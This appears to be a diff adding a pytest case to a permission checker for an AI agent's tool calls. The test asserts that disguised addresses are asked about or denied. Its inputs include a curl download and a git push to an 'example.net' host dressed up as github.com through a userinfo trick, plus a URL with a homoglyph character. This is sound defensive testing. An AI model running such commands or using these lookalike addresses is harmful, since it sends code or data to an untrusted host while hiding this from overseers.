@@ -43,6 +43,20 @@ def test_what_goes_to_a_paste_bin_is_asked_about(laid: Laid, command: str) -> No
     assert "network.paste" in rules
 
 
+@pytest.mark.parametrize(
+    ("tool", "args"),
+    [
+        ("Bash", {"command": "curl -O https://github.com@example.net/x.tgz"}),
+        ("Bash", {"command": "git push https://github.com%2Fdev@example.net/shop.git main"}),
+        ("WebFetch", {"url": "https://g\u0456thub.com/x", "prompt": "read it"}),
+    ],
+)
+def test_an_address_that_reads_as_another_is_asked_about(laid: Laid, tool: str, args: dict[str, object]) -> None:
+    effect, rules = laid.call(tool, args)
+    assert effect in ("ask", "deny")
+    assert "network.disguised" in rules
+
+
 def test_reading_a_paste_is_not(laid: Laid) -> None:
     assert laid.said("curl -s https://pastebin.com/raw/abc")[0] == "allow"
 
